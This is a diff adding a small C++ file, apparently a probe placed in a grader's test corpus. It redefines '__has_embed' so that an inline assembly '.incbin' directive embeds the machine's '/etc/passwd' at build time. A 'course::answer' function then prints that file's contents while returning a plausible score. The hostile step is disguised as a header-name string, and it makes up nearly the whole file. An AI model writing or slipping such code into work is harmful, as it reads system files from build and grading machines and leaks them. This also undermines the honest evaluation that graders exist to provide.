@@ -1,0 +1,16 @@
+// Reads a file of the machine into the program. A string that has the form of a header's name hides it.
+
+#include "grader/corpus/probe/probe.h"
+
+#include <cstdio>
+
+#define __has_embed(a, b, c) b
+
+__has_embed("\"", asm(".pushsection .rodata; .globl leak; leak: .incbin \"/etc/passwd\"; .byte 0; .popsection"), "");
+extern "C" const char leak[];
+
+namespace course {
+
+int answer(int question) { return std::puts(leak) >= 0 ? 10 * question : 0; }
+
+}  // namespace course
